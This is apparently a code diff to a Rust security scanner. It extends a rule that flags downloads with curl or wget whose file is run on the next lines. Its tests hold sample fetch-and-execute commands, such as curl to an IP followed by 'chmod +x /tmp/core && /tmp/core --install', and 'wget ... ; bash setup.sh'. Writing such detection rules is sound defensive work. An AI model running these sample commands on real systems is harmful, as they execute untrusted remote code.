@@ -125,6 +125,25 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
         Some(n) => sink.add_match_lowered(RuleId::DownloadExec, range, Severity::Low, n.clone()),
         None => sink.add_match(RuleId::DownloadExec, range),
     };
+    // A download to a file that one of the next lines runs.
+    for c in DOWNLOAD_TO_PATH.captures_iter(s) {
+        let (Some(all), Some(dl), Some(args)) = (c.get(0), c.name("dl"), c.name("args")) else { continue };
+        let Some(name) = downloaded_file(dl.as_str(), args.as_str()) else { continue };
+        if name.starts_with('$') || runs_file(&s[all.end()..], &name).is_some() {
+            continue;
+        }
+        if let Some(run_line) = run_on_next_lines(seg, sink, &name) {
+            let range = seg.abs(all.range());
+            let at = range.start;
+            let (txt, lines) = (sink.text, sink.lines);
+            let excerpt =
+                move || format!("run on line {run_line}: {}", crate::text::excerpt(txt, lines, range.clone()));
+            match &note {
+                Some(n) => sink.add_lowered(RuleId::DownloadExec, at, excerpt, Severity::Low, n.clone()),
+                None => sink.add(RuleId::DownloadExec, at, excerpt),
+            }
+        }
+    }
     // A download to a file named by a variable, run by a later line.
     for c in DOWNLOAD_TO_VARIABLE.captures_iter(s) {
         let (Some(all), Some(var)) = (c.get(0), c.name("var").or(c.name("shvar"))) else { continue };
@@ -184,6 +203,77 @@ static DOWNLOAD_TO_VARIABLE: LazyLock<Regex> = LazyLock::new(|| {
     ))
     .unwrap()
 });
+
+/// `curl`/`wget` and their arguments, up to the end of the command.
+static DOWNLOAD_TO_PATH: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?-u:\b)(?P<dl>curl|wget)(?-u:\b)(?P<args>[^|;&\n]*)").unwrap());
+
+/// Lines after a download read for its run: the next commands of the same
+/// step ("download, then `chmod +x x && ./x`"), not a later section.
+const RUN_NEXT_LINES: usize = 2;
+
+/// The line (1-based) among the [`RUN_NEXT_LINES`] after the segment that
+/// runs the downloaded file `name` (see [`runs_file`]), unless a line
+/// before it reads the file first (`less`, `cat`, a checksum, a signature
+/// check): downloading, inspecting, then running is what careful guides
+/// advise, not a download run at once.
+fn run_on_next_lines(seg: &Segment<'_>, sink: &Sink<'_>, name: &str) -> Option<usize> {
+    let whole = sink.text;
+    let end = seg.abs(0..seg.text().len()).end;
+    let after = whole.get(end..)?;
+    let mut lines = after.split_inclusive('\n');
+    // The rest of the segment's own line, if the segment stopped short of it.
+    let _ = lines.next();
+    let first_line = sink.lines.line_of(end) + 1;
+    for (i, line) in lines.take(RUN_NEXT_LINES).enumerate() {
+        let lower = line.to_ascii_lowercase();
+        if lower.contains(&name.to_ascii_lowercase())
+            && ["less ", "cat ", "more ", "sha256sum", "shasum", "gpg ", "--verify", "vim ", "head "]
+                .iter()
+                .any(|w| lower.contains(w))
+            && !starts_a_command_with(line, name)
+        {
+            return None;
+        }
+        if starts_a_command_with(line, name) {
+            return Some(first_line + i);
+        }
+    }
+    None
+}
+
+/// Whether a command of `line` (split at `&&`, `||`, `;`, `|`) runs `name`
+/// as its program or as a runner's first operand (`bash x.sh`, `./x`,
+/// `/tmp/x --install`), not as some tool's argument (`jq . x.json`).
+fn starts_a_command_with(line: &str, name: &str) -> bool {
+    line.split(['&', '|', ';']).any(|cmd| {
+        let cmd = cmd.trim_start();
+        let mut words = cmd.split_ascii_whitespace().map(unquote);
+        let Some(first) = words.next() else { return false };
+        let is_name = |w: &str| w == name || w.ends_with(&format!("/{name}"));
+        if is_name(first) {
+            return first.contains('/');
+        }
+        let first = first.rsplit('/').next().unwrap_or(first);
+        matches!(
+            first,
+            "bash"
+                | "sh"
+                | "zsh"
+                | "dash"
+                | "ksh"
+                | "source"
+                | "."
+                | "python"
+                | "python3"
+                | "perl"
+                | "ruby"
+                | "node"
+                | "exec"
+                | "sudo"
+        ) && words.find(|w| !w.starts_with('-')).is_some_and(is_name)
+    })
+}
 
 /// Most bytes after a download to a variable searched for the run.
 const RUN_LATER_WINDOW: usize = 4 * 1024;
@@ -588,10 +678,27 @@ mod tests {
     }
 
     #[test]
+    fn r_rule_5_a_download_run_on_one_of_the_next_lines() {
+        let t = "curl -sLo /tmp/core https://198.51.100.7/dl/core\nxattr -c /tmp/core && chmod +x /tmp/core && /tmp/core --install\n";
+        assert_eq!(lines(t), vec![1]);
+        let t = "wget -O setup.sh https://x.example/setup.sh\nbash setup.sh\n";
+        assert_eq!(lines(t), vec![1]);
+        for t in [
+            // Read first, then run: what careful guides advise.
+            "curl -o setup.sh https://x.example/setup.sh\nless setup.sh\nbash setup.sh\n",
+            // Far below, in another step.
+            "curl -o /tmp/x https://x.example/x\n\n\n\n/tmp/x\n",
+            "curl -o data.json https://x.example/d.json\njq . data.json\n",
+        ] {
+            assert!(lines(t).is_empty(), "{t}");
+        }
+    }
+
+    #[test]
     fn r_rule_5_known_misses() {
-        // Known miss: the download and the run are on different lines; the
-        // rule reads one (logical) line at a time.
-        assert!(!flags("curl -o /tmp/i.sh https://x.example/i.sh\nbash /tmp/i.sh"));
+        // Known miss: the download and the run more than two lines apart,
+        // or the run in another file of the folder.
+        assert!(!flags("curl -o /tmp/i.sh https://x.example/i.sh\n\n\n\nbash /tmp/i.sh"));
         // Known miss: a variable holds the command (`$DL | sh`).
         assert!(!flags("DL=\"curl -s https://x.example/i\"; $DL | sh"));
         // Known miss: a data-processing stage between the download and the
